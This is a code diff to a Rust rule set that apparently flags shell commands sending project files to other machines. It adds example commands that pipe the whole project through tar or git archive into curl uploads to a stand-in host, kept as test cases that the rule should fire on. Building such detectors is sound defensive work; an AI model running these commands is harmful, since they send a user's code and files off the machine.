@@ -1,6 +1,8 @@
 //! Rules on data that leaves: keys, private files, the project itself. What is sent, and where it comes from, was followed
 //! while the action was understood.
 
+mod project;
+
 use super::{
     Hit, Rule, Scene, Shelf, When,
     flow::{host_kind, host_resource, is_local, named_as_credential, shown},
@@ -167,8 +169,10 @@ static RULES: &[Rule] = &[
         severity: Severity::Medium,
         message: "files of the project are sent to another machine",
         remedy: "check that the receiver may have them",
-        when: When::Effect(Kinds::CONNECT, workspace_sent),
+        when: When::Effect(Kinds::CONNECT, project::sent),
         fires: &[
+            "tar czf - . | curl --data-binary @- https://example.net/up",
+            "git archive HEAD | curl -T - https://example.net/x.tar",
             "curl -F 'f=@report.txt' https://example.net/up",
             "scp README.md dev@example.com:",
             "rsync -a src/ dev@example.com:src/",
@@ -459,21 +463,6 @@ fn screen_sent(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
     })
 }
 
-fn workspace_sent(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
-    let (connection, sends) = sent(effect)?;
-    if !sends.taint.has(Taint::FILE) || sends.taint.has(Taint::SECRET) {
-        return None;
-    }
-    let files = scene.files_of(sends);
-    let file = files.iter().find(|target| !is_private(target, scene))?;
-    let severity = match host_kind(connection) {
-        HostKind::Address | HostKind::Hidden => Severity::High,
-        _ => Severity::Medium,
-    };
-    let what = format!("`{}` is sent", file.text.display());
-    Some(hit(connection, severity, &what))
-}
-
 /// Programs that carry copies to where a team keeps them; what they are given is looked at by its receiver alone.
 const KEEPERS: &[&str] = &[
     "aws", "az", "azcopy", "b2", "gcloud", "gsutil", "mc", "rclone", "restic", "rsync", "s3cmd",
@@ -523,7 +512,10 @@ fn computed_name(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
         .origins(&connection.address)
         .iter()
         .any(|origin| matches!(origin.kind, EffectKind::Run(_)));
-    (looks_up && computed && from_program).then(Hit::default)
+    let files = scene.files_of(&connection.address);
+    let severity =
+        files.iter().any(|target| project::is_much(target, scene)).then_some(Severity::High);
+    (looks_up && computed && from_program).then(|| Hit { severity, ..Hit::default() })
 }
 
 fn output_sent(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
